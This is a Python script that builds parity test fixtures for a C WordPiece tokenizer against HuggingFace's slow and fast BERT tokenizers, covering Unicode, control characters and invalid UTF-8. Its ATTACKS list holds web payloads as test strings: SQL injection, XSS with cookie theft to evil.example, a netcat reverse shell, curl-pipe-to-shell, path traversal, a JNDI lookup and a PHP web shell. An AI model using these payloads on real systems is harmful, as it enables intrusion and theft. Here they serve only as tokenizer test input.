#!/usr/bin/env python3
"""Generate tokenizer parity fixtures for wafer's C WordPiece tokenizer.

Run where `transformers` and `tokenizers` are installed (no network needed):

    python3 train/tools/gen_tokenizer_fixtures.py OUTDIR

Writes into OUTDIR:
  vocab.txt          a WordPiece vocabulary trained here with the `tokenizers`
                     WordPiece trainer on a generated corpus, plus every
                     character of the test alphabets (so that differences in
                     normalisation show up as different ids, not as [UNK]).
  cases.jsonl        one JSON object per (string, lower-case mode):
                       {"text": str, "lower": bool, "ids_fast": [...],
                        "ids_slow": [...]   (only when it differs from ids_fast),
                        "hex": "..."        (only for invalid UTF-8 cases: the raw
                                             bytes; text is them decoded with
                                             errors="replace"),
                        "t16": [...]        (only when longer than 16: the fast
                                             ids with truncation=True, max_length=16)}
                     ids_* include [CLS] ... [SEP] exactly as tokenizer(text)
                     returns them.
  meta.json          versions, classes, counts, vocab-file probes (duplicates,
                     CRLF, blank lines, trailing spaces) and slow/fast summary.
  unicode_probe.json per-code-point behaviour of the fast (Rust) and slow
                     (Python) BERT normalisation steps, as range lists and maps;
                     used to derive and check the C tables, not committed.

Everything is deterministic (fixed seed). "slow" is the pure-Python BERT
tokenizer (BertTokenizerLegacy in transformers 5, BertTokenizer in 4), "fast"
is BertTokenizerFast (the Rust `tokenizers` backend).
"""
import json
import os
import random
import sys
import time
import unicodedata
import urllib.parse

import tokenizers
import transformers
from tokenizers import BertWordPieceTokenizer, normalizers, pre_tokenizers

SEED = 20261121
SPECIALS = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]"]

# ----------------------------------------------------------------- text material

WORDS = """the be to of and a in that have it for not on with he as you do at this but his by from they we say
her she or an will my one all would there their what so up out if about who get which go me when make can like
time no just him know take people into year your good some could them see other than then now look only come its
over think also back after use two how our work first well way even new want because any these give day most us
request response header cookie session token user admin password login logout search query select update delete
insert table where order group union values from into drop create alter database server client proxy firewall
model detect attack benign payload script alert document window location image source onerror onload iframe
hello world international unaffable running jumped tokenization wordpiece transformer embedding""".split()

ATTACKS = [
    "' OR '1'='1", "' OR 1=1 --", "admin'--", "1; DROP TABLE users", "1 UNION SELECT username, password FROM users",
    "' UNION ALL SELECT NULL,NULL,version()--", "1' AND SLEEP(5)#", "'; EXEC xp_cmdshell('dir');--",
    "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", "ORDER BY 10--", "' or ''='",
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert`1`>",
    "javascript:alert(String.fromCharCode(88,83,83))", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "\"><script>fetch('//evil.example/'+document.cookie)</script>", "<body onload=alert('XSS')>",
    "; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://evil.example/x.sh | sh)", "`id`",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "{{7*7}}", "${7*7}",
    "${jndi:ldap://evil.example/a}", "<?php system($_GET['c']); ?>", "() { :; }; /bin/bash -c 'id'",
    "SELECT * FROM users WHERE id = 1 /*!50000UNION*/ SELECT 1,2,3", "eval(atob('YWxlcnQoMSk='))",
    "GET /index.php?id=1%27%20OR%201=1-- HTTP/1.1", "{\"$where\": \"this.password.length > 0\"}",
]

LATIN_ACC = "àáâãäåæçèéêëìíîïðñòóôõöøùúûüýþÿāăąćĉċčďđēĕėęěĝğġģĥħĩīĭįıĳĵķĸĺļľŀłńņňŉŋōŏőœŕŗřśŝşšţťŧũūŭůűųŵŷźżžſǆǉǌǳ" \
    "ÀÁÂÃÄÅÆÇÈÉÊËÌÍÎÏÐÑÒÓÔÕÖØÙÚÛÜÝÞĀĂĄĆĈĊČĎĐĒĔĖĘĚĜĞĠĢĤĦĨĪĬĮİĲĴĶĹĻĽĿŁŃŅŇŊŌŎŐŒŔŖŘŚŜŞŠŢŤŦŨŪŬŮŰŲŴŶŸŹŻŽǄǅǇǈǊǋǱǲßẞ"
GREEK = "αβγδεζηθικλμνξοπρσςτυφχψωάέήίόύώϊϋΐΰΑΒΓΔΕΖΗΘΙΚΛΜΝΞΟΠΡΣΤΥΦΧΨΩΆΈΉΊΌΎΏΪΫᾼᾳῼῳᾈᾀ"
CYRILLIC = "абвгдеёжзийклмнопрстуфхцчшщъыьэюяАБВГДЕЁЖЗИЙКЛМНОПРСТУФХЦЧШЩЪЫЬЭЮЯіїєґІЇЄҐўЎ"
ARABIC = "ابتثجحخدذرزسشصضطظعغفقكلمنهوي" + "\u064b\u064c\u064d\u064e\u064f\u0650\u0651\u0652" + "٠١٢٣٤٥٦٧٨٩،؛؟"
HEBREW = "אבגדהוזחטיכלמנסעפצקרשת" + "\u05b0\u05b4\u05b8\u05bc"
DEVANAGARI = "कखगघचछजझटठडढणतथदधनपफबभमयरलवशषसह" + "\u093e\u093f\u0940\u0941\u0942\u0947\u094d\u0902" + "।॥"
THAI = "กขคงจฉชซญดตถทนบปผพฟมยรลวศสหอฮ" + "\u0e31\u0e34\u0e35\u0e48\u0e49"
HANGUL = "한국어대한민국서울안녕하세요"
KANA = "ひらがなカタカナアイウエオーッ"
CJK = "中文字符测试漢字日本語北京大学人工智能" + "\u3400\u3401\u4dbf\u9fff\u9fa5" + "\uf900\uf901\ufa0e\ufaff" + \
    "\U00020000\U00020001\U0002a6df\U0002a700\U0002b73f\U0002b740\U0002b81f\U0002b820\U0002b8ff\U0002b91f" + \
    "\U0002b920\U0002ceaf\U0002ceb0\U0002f800\U0002fa1f\U00030000"
EMOJI = ["😀", "🔥", "👍🏽", "👨‍👩‍👧", "🇫🇷", "❤️", "1️⃣", "🧑‍💻", "🫠", "🪿", "☃", "✔"]
CASE_EDGE = ["İ", "İstanbul", "İİ", "ıI", "ΣΑΣ", "ΟΔΥΣΣΕΥΣ", "Σ", "aΣ", "ΑΣ.", "ΑΣ'Β", "ΑΣ\u0301", "σς", "ǅ", "ǈ", "ǋ",
             "\u2126", "\u212a", "\u212b", "ＡＢＣｘｙｚ", "\u13a0\u13a1", "\uab70", "\u1c90\u1c91", "\U00010400",
             "\U0001e900", "\U000104b0", "\U00016e40", "\U00010570", "\u1e9e", "ß", "ŉ", "ǰ", "ΐ", "ﬀ", "ﬁ", "\u0345",
             "\u1fbc", "\u1f88", "\u0130\u0307", "I\u0307", "\u00b5", "\u017f", "\u1e9b", "\u03d0\u03d1",
             "\u2160\u2161", "\u24b6\u24d0", "\U0001d400", "\u1d2c", "\u2c2f", "\ua7c0", "\ua7f5", "\U0001e030"]
CONTROLS = [chr(c) for c in list(range(0, 32)) + [127] + list(range(0x80, 0xa0))] + \
    ["\u00ad", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff", "\u2028", "\u2029", "\u0085",
     "\u00a0", "\u3000", "\u1680", "\u180e", "\u2000", "\u2007", "\u200a", "\u202f", "\u205f", "\ufffd", "\ufffe",
     "\uffff", "\ue000", "\U000f0000", "\U0010fffd", "\u0378", "\U0002ffff", "\U000e0080", "\U000e0001",
     "\U000e0041", "\U000e0100", "\ufe0f", "\u061c", "\u0890", "\U00013430", "\u206a", "\u2066", "\U0001bca0",
     "\u034f", "\u115f", "\u3164", "\uffa0", "\u2800", "\u001c", "\u001f"]
PUNCT = list("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~") + ["¡", "¿", "«", "»", "–", "—", "‘", "’", "“", "”", "…", "‰", "†",
    "•", "、", "。", "「", "」", "【", "】", "！", "？", "，", "；", "：", "§", "¶", "·", "¦", "¬", "°", "±", "©", "®",
    "™", "€", "£", "¥", "$", "^", "`", "´", "¨", "\u2e52", "\u2e5d", "\U00010f86", "\U00016fe2", "\u1b7d", "\u0f14",
    "\U0001e95e", "\u2e4f", "\U00011b00", "\u058a", "\u05be", "\u2010", "\u2e3a", "\U0001da8b"]
COMBINING = ["\u0300", "\u0301", "\u0302", "\u0303", "\u0308", "\u0327", "\u0328", "\u030a", "\u0323", "\u20dd",
             "\u20e3", "\u0488", "\u1ab0", "\u1dc0", "\u1df9", "\u1dfa", "\u0897", "\U0001e4ec", "\U00011f00"]

POOLS = {
    "latin": LATIN_ACC, "greek": GREEK, "cyrillic": CYRILLIC, "arabic": ARABIC, "hebrew": HEBREW,
    "devanagari": DEVANAGARI, "thai": THAI, "hangul": HANGUL, "kana": KANA, "cjk": CJK,
}


def rand_word(rng, pool, lo=1, hi=9):
    return "".join(rng.choice(pool) for _ in range(rng.randint(lo, hi)))


def mutate_case(rng, s):
    return "".join(c.upper() if rng.random() < 0.3 else c for c in s)


def rand_cp(rng):
    while True:
        cp = rng.randrange(0x110000) if rng.random() < 0.3 else rng.randrange(0x30000)
        if not (0xD800 <= cp <= 0xDFFF):
            return chr(cp)


def corpus(rng):
    out = []
    for _ in range(4000):
        out.append(" ".join(rng.choice(WORDS) for _ in range(rng.randint(3, 12))))
    for a in ATTACKS:
        for _ in range(20):
            out.append(mutate_case(rng, a))
            out.append(urllib.parse.quote(a))
    for name, pool in POOLS.items():
        for _ in range(300):
            out.append(" ".join(rand_word(rng, pool, 2, 7) for _ in range(rng.randint(2, 8))))
    for _ in range(300):
        out.append(" ".join(rng.choice(EMOJI + CASE_EDGE) for _ in range(5)))
    out += [s.lower() for s in out[: len(out) // 2]]
    return out


def strings(rng):
    S = []
    # hand-written
    S += ["", " ", "\t\n\r", "\x00", "\ufffd", "\u200b", "[CLS]", "[SEP]", "[PAD]", "[UNK]", "[MASK]",
          "hello [CLS] world", "[SEP][SEP]", "x[MASK]y", "[cls] lower", "[ CLS ]", "[CL\x00S]", "[CLS\u200b]",
          "[CLS\u00ad]", "##abc", "##", "#", "# #", "[unused0]", "unaffable", "UNAFFABLE", "Hello, World!",
          "a\x0bb", "a\x0cb", "a\x85b", "a\u2028b", "a\u2029b", "a\u00a0b", "a\u3000b", "a\u180eb", "a\x1cb",
          "a\x1fb", "e\u0301", "E\u0301", "\u0301e", "a\u0300\u0301\u0302", "\u00e9\u0301", "cafe\u0301 CAFÉ café",
          "x" * 99, "x" * 100, "x" * 101, "x" * 150, "é" * 100, "e\u0301" * 60, "E\u0301" * 99,
          "İ" * 100, "İ" * 99, "ß" * 100, "\u0345" * 3, "\u0130\u0130 i\u0307", "ΟΔΟΣ ΟΔΟΣ.", "ΣΣΣ", "aΣ bΣc",
          "Σ\u0301", "ς", "\u2126\u212a\u212b", "ＡＢＣ", "\uff21\uff42", "a,b.c!d?e", "don't", "e-mail",
          "1.5", "$100", "100%", "C++", "a--b", "http://example.com/a?b=c&d=e#f",
          "中文test混合", "日本語のテキスト", "한국어 텍스트", "\U0002b820\U0002b91f\U0002b920",
          "\U0002ebf0", "\U00031350", "\u3007", "\u2f00", "\u31c0", "\uf900\ufa6e",
          "👍🏽👍", "👨‍👩‍👧", "🇫🇷🇩🇪", "❤️x", "1️⃣", "\U000e0067\U000e0062", "\U0001f3f4\U000e0067\U000e0062\U000e007f"]
    S += ATTACKS
    S += [urllib.parse.quote(a) for a in ATTACKS]
    S += [urllib.parse.quote(urllib.parse.quote(a)) for a in ATTACKS[:12]]
    S += [urllib.parse.quote(s) for s in ["é中文", "ΣΑΣ", "İ", "\u200b"]]
    S += CASE_EDGE
    S += ["a" + c + "b" for c in CONTROLS]
    S += [c for c in CONTROLS]
    S += ["x" + p + "y" for p in PUNCT]
    S += ["a" + c for c in COMBINING] + [c + "a" for c in COMBINING]
    S += ["[CLS]" + rng.choice(WORDS) + "[SEP]" for _ in range(5)]
    S += ["p" * n for n in (98, 99, 100, 101)] + ["##" + "q" * 99]
    # generated
    for _ in range(300):
        S.append(" ".join(rng.choice(WORDS) for _ in range(rng.randint(1, 20))))
    for _ in range(300):
        a = mutate_case(rng, rng.choice(ATTACKS))
        r = rng.random()
        if r < 0.3:
            a = urllib.parse.quote(a, safe=rng.choice(["", "/", "=&?"]))
        elif r < 0.4:
            a = a.replace(" ", rng.choice(["/**/", "\t", "+", "%20", "\u00a0", "\u3000", "\x0b"]))
        S.append(a)
    for name, pool in POOLS.items():
        for _ in range(60):
            w = " ".join(rand_word(rng, pool) for _ in range(rng.randint(1, 6)))
            if rng.random() < 0.3:
                w = unicodedata.normalize("NFD", w)
            if rng.random() < 0.3:
                w = w.upper()
            S.append(w)
    for _ in range(200):
        parts = []
        for _ in range(rng.randint(1, 12)):
            k = rng.random()
            if k < 0.15:
                parts.append(rng.choice(WORDS))
            elif k < 0.3:
                parts.append(rng.choice(CONTROLS))
            elif k < 0.4:
                parts.append(rng.choice(PUNCT))
            elif k < 0.5:
                parts.append(rng.choice(COMBINING))
            elif k < 0.6:
                parts.append(rng.choice(EMOJI))
            elif k < 0.7:
                parts.append(rng.choice(CASE_EDGE))
            elif k < 0.85:
                parts.append(rand_word(rng, rng.choice(list(POOLS.values())), 1, 4))
            else:
                parts.append(rand_cp(rng))
            if rng.random() < 0.5:
                parts.append(rng.choice([" ", "", "", "\t", "\n"]))
        S.append("".join(parts))
    for _ in range(250):  # code point soup
        S.append("".join(rand_cp(rng) for _ in range(rng.randint(1, 10))))
    for _ in range(40):  # long strings
        S.append(" ".join(rng.choice(WORDS + ATTACKS) for _ in range(rng.randint(50, 200))))
    for _ in range(30):  # long words of mixed material
        n = rng.choice([95, 99, 100, 101, 102, 120])
        S.append(rand_word(rng, rng.choice([LATIN_ACC, GREEK, "abcdef", CYRILLIC]), n, n))
    return S


def bad_utf8(rng):
    B = [b"abc\xffdef", b"\xc3(", b"\xed\xa0\x80x", b"\xc0\xaf", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\xe2\x82x",
         b"[CLS]\xff[SEP]", b"[CL\xffS]", b"\xf0\x9f\x98", b"\x80\x80\x80", b"caf\xe9", b"\xfe\xff", b"a\xc2",
         b"\xef\xbf\xbd", b"\xf8\x88\x80\x80\x80", b"e\xcc", b"\xe0\x80\x80", b"\xf0\x80\x80\x80", b"ok\xedok"]
    for _ in range(60):
        b = bytearray(rng.choice(WORDS + ATTACKS).encode())
        for _ in range(rng.randint(1, 4)):
            b.insert(rng.randrange(len(b) + 1), rng.randrange(0x80, 0x100))
        B.append(bytes(b))
    return B


# ----------------------------------------------------------------- tokenizers

def make_slow(vocab, lower):
    cls = getattr(transformers, "BertTokenizerLegacy", None)
    if cls is None:
        from transformers import BertTokenizer as cls  # transformers 4: the Python one
    return cls(vocab_file=vocab, do_lower_case=lower)


FAST_HOW = {}


def _fast_ok(tok, vocab):
    with open(vocab, "r", encoding="utf-8") as f:
        lines = [x.rstrip("\n") for x in f.readlines()]
    want = {t: i for i, t in enumerate(lines)}
    return (tok.convert_tokens_to_ids("[SEP]") == want["[SEP]"]
            and tok.convert_tokens_to_ids("[MASK]") == want["[MASK]"]
            and len(tok.get_vocab()) >= len(want) - 1)


def make_fast(vocab, lower):
    """BertTokenizerFast loaded the way a model directory loads it (from_pretrained on a folder holding
    only vocab.txt); falls back to the constructor forms of transformers 4 and 5."""
    from transformers import BertTokenizerFast
    import shutil
    import tempfile
    d = tempfile.mkdtemp(prefix="wf_tok_")
    shutil.copyfile(vocab, os.path.join(d, "vocab.txt"))
    tries = [("from_pretrained", lambda: BertTokenizerFast.from_pretrained(d, do_lower_case=lower)),
             ("vocab=path", lambda: BertTokenizerFast(vocab=vocab, do_lower_case=lower)),
             ("vocab_file=path", lambda: BertTokenizerFast(vocab_file=vocab, do_lower_case=lower))]
    errs = []
    for how, mk in tries:
        try:
            tok = mk()
            if _fast_ok(tok, vocab):
                FAST_HOW[os.path.basename(vocab)] = how
                return tok
            errs.append(how + ": vocabulary not loaded")
        except Exception as e:  # noqa: BLE001 - try the next form
            errs.append(how + ": " + repr(e))
    raise RuntimeError("cannot build BertTokenizerFast: " + "; ".join(errs))


def ids_of(tok, text, **kw):
    return list(tok(text, add_special_tokens=True, **kw)["input_ids"])


def ranges(pred):
    out, start = [], None
    for cp in range(0x110001):
        ok = cp < 0x110000 and not (0xD800 <= cp <= 0xDFFF) and pred(cp)
        if ok and start is None:
            start = cp
        elif not ok and start is not None:
            out.append([start, cp - 1])
            start = None
    return out


def unicode_probe():
    try:
        from transformers.tokenization_python import _is_control, _is_punctuation, _is_whitespace
    except ImportError:
        from transformers.tokenization_utils import _is_control, _is_punctuation, _is_whitespace
    n_clean = normalizers.BertNormalizer(clean_text=True, handle_chinese_chars=False, strip_accents=False, lowercase=False)
    n_cjk = normalizers.BertNormalizer(clean_text=False, handle_chinese_chars=True, strip_accents=False, lowercase=False)
    n_strip = normalizers.BertNormalizer(clean_text=False, handle_chinese_chars=False, strip_accents=True, lowercase=False)
    n_lower = normalizers.BertNormalizer(clean_text=False, handle_chinese_chars=False, strip_accents=False, lowercase=True)
    pt = pre_tokenizers.BertPreTokenizer()
    f_ctrl, f_ws, f_punct, f_cjk, f_split_ws = set(), set(), set(), set(), set()
    f_strip, f_lower, s_lower, s_strip = {}, {}, {}, {}
    for cp in range(0x110000):
        if 0xD800 <= cp <= 0xDFFF:
            continue
        c = chr(cp)
        r = n_clean.normalize_str(c)
        if r == "":
            f_ctrl.add(cp)
        elif r == " " and c != " ":
            f_ws.add(cp)
        p = pt.pre_tokenize_str("a" + c + "a")
        if len(p) == 2:
            f_split_ws.add(cp)
        elif len(p) == 3:
            f_punct.add(cp)
        if 0x3000 <= cp < 0x40000 and n_cjk.normalize_str(c) == " " + c + " ":
            f_cjk.add(cp)
        r = n_strip.normalize_str(c)
        if r != c:
            f_strip[cp] = r
        r = n_lower.normalize_str(c)
        if r != c:
            f_lower[cp] = r
        r = c.lower()
        if r != c:
            s_lower[cp] = r
        r = "".join(x for x in unicodedata.normalize("NFD", c) if unicodedata.category(x) != "Mn")
        if r != c:
            s_strip[cp] = r
    return {
        "unidata_version": unicodedata.unidata_version,
        "fast_control": ranges(lambda cp: cp in f_ctrl),
        "fast_clean_ws": ranges(lambda cp: cp in f_ws),
        "fast_split_ws": ranges(lambda cp: cp in f_split_ws),
        "fast_punct": ranges(lambda cp: cp in f_punct),
        "fast_cjk": ranges(lambda cp: cp in f_cjk),
        "fast_strip": [[k, v] for k, v in sorted(f_strip.items())],
        "fast_lower": [[k, v] for k, v in sorted(f_lower.items())],
        "slow_control": ranges(lambda cp: cp != 0 and cp != 0xFFFD and _is_control(chr(cp))),
        "slow_ws": ranges(lambda cp: _is_whitespace(chr(cp))),
        "slow_punct": ranges(lambda cp: _is_punctuation(chr(cp))),
        "slow_strip": [[k, v] for k, v in sorted(s_strip.items())],
        "slow_lower": [[k, v] for k, v in sorted(s_lower.items())],
    }


def vocab_probes(tmp):
    """How HF reads odd vocab files: duplicates, CRLF, blank lines, trailing spaces."""
    res = {}
    base = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]"]
    files = {
        "dup": base + ["abc", "xyz", "abc", "d"],
        "crlf": None,
        "blank": base + ["abc", "", "xyz"],
        "trailing_space": base + ["abc ", "xyz"],
        "lone_cr": None,
    }
    for name, lines in files.items():
        p = os.path.join(tmp, "v_" + name + ".txt")
        if name == "crlf":
            data = ("\r\n".join(base + ["abc", "xyz"]) + "\r\n").encode()
        elif name == "lone_cr":
            data = ("\n".join(base) + "\nabc\rdef\nxyz\n").encode()
        else:
            data = ("\n".join(lines) + "\n").encode()
        with open(p, "wb") as f:
            f.write(data)
        r = {}
        for kind, mk in (("slow", make_slow), ("fast", make_fast)):
            try:
                t = mk(p, False)
                r[kind] = {"abc xyz d def": ids_of(t, "abc xyz d def"), "len": len(t),
                           "vocab_size": t.vocab_size,
                           "abc": t.convert_tokens_to_ids("abc"), "abc ": t.convert_tokens_to_ids("abc "),
                           "abc\r": t.convert_tokens_to_ids("abc\r"), "": t.convert_tokens_to_ids("")}
            except Exception as e:  # noqa: BLE001 - record, do not stop
                r[kind] = {"error": repr(e)}
        res[name] = r
    return res


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else "."
    os.makedirs(out, exist_ok=True)
    t0 = time.time()
    rng = random.Random(SEED)
    meta = {"transformers": transformers.__version__, "tokenizers": tokenizers.__version__,
            "python_unidata": unicodedata.unidata_version, "seed": SEED}

    # (a) vocabulary
    bw = BertWordPieceTokenizer(clean_text=True, handle_chinese_chars=True, strip_accents=False, lowercase=False)
    bw.train_from_iterator(corpus(rng), vocab_size=5000, min_frequency=2, special_tokens=SPECIALS,
                           limit_alphabet=600, wordpieces_prefix="##")
    vocab = [t for t, _ in sorted(bw.get_vocab().items(), key=lambda kv: kv[1])]
    have = set(vocab)
    alphabet = set()
    for pool in list(POOLS.values()) + EMOJI + CASE_EDGE + PUNCT + ["abcdefghijklmnopqrstuvwxyz0123456789"]:
        for c in pool:
            for v in (c, c.lower(), c.upper(), unicodedata.normalize("NFD", c), unicodedata.normalize("NFC", c)):
                for x in v:
                    if not unicodedata.category(x).startswith(("C", "Z", "M")):
                        alphabet.add(x)
    extra = ["[unused0]", "##", "#", "i\u0307", "ς", "σ", "straße", "strasse", "café", "cafe"]
    for c in sorted(alphabet):
        extra += [c, "##" + c]
    for c in COMBINING + ["\u0307", "\u0345", "\u0301"]:
        extra += [c, "##" + c]
    for t in extra:
        if t not in have:
            vocab.append(t)
            have.add(t)
    vpath = os.path.join(out, "vocab.txt")
    with open(vpath, "w", encoding="utf-8", newline="\n") as f:
        for t in vocab:
            assert "\n" not in t and "\r" not in t and t.strip() == t, repr(t)
            f.write(t + "\n")
    meta["vocab_size"] = len(vocab)
    print("vocab", len(vocab), "tokens", round(time.time() - t0, 1), "s", flush=True)

    # (b) strings
    texts = [(s, None) for s in strings(rng)]
    texts += [(b.decode("utf-8", errors="replace"), b.hex()) for b in bad_utf8(rng)]
    meta["strings"] = len(texts)

    # (c) encode
    summary = {}
    with open(os.path.join(out, "cases.jsonl"), "w", encoding="utf-8") as f:
        for lower in (True, False):
            slow, fast = make_slow(vpath, lower), make_fast(vpath, lower)
            rust = BertWordPieceTokenizer(vpath, lowercase=lower)
            meta["slow_class_%s" % lower] = type(slow).__module__ + "." + type(slow).__name__
            meta["fast_class_%s" % lower] = type(fast).__module__ + "." + type(fast).__name__
            try:
                meta["fast_normalizer_%s" % lower] = str(fast.backend_tokenizer.normalizer)
            except Exception as e:  # noqa: BLE001
                meta["fast_normalizer_%s" % lower] = repr(e)
            same = rust_diff = 0
            diffs = []
            for text, hx in texts:
                a, b = ids_of(slow, text), ids_of(fast, text)
                rr = rust.encode(text).ids
                if rr != b:
                    rust_diff += 1
                rec = {"text": text, "lower": lower, "ids_fast": b}
                if a != b:
                    rec["ids_slow"] = a
                    if len(diffs) < 200:
                        diffs.append({"text": text, "slow": slow.convert_ids_to_tokens(a),
                                      "fast": fast.convert_ids_to_tokens(b)})
                else:
                    same += 1
                if hx is not None:
                    rec["hex"] = hx
                if len(b) > 16:
                    rec["t16"] = ids_of(fast, text, truncation=True, max_length=16)
                f.write(json.dumps(rec, ensure_ascii=True) + "\n")
            summary[str(lower)] = {"n": len(texts), "slow_eq_fast": same, "rust_ne_fast": rust_diff,
                                   "diffs": diffs}
            print("lower", lower, "slow==fast", same, "/", len(texts), "rust!=fast", rust_diff,
                  round(time.time() - t0, 1), "s", flush=True)
    meta["summary"] = summary
    try:
        meta["vocab_probes"] = vocab_probes(out)
    except Exception as e:  # noqa: BLE001
        meta["vocab_probes"] = repr(e)
    meta["fast_how"] = FAST_HOW
    for name in list(os.listdir(out)):
        if name.startswith("v_"):
            os.remove(os.path.join(out, name))
    with open(os.path.join(out, "meta.json"), "w", encoding="utf-8") as f:
        json.dump(meta, f, ensure_ascii=False, indent=1)
    print("probing code points", round(time.time() - t0, 1), "s", flush=True)
    with open(os.path.join(out, "unicode_probe.json"), "w", encoding="utf-8") as f:
        json.dump(unicode_probe(), f, ensure_ascii=True)
    print("done", round(time.time() - t0, 1), "s", flush=True)


if __name__ == "__main__":
    main()
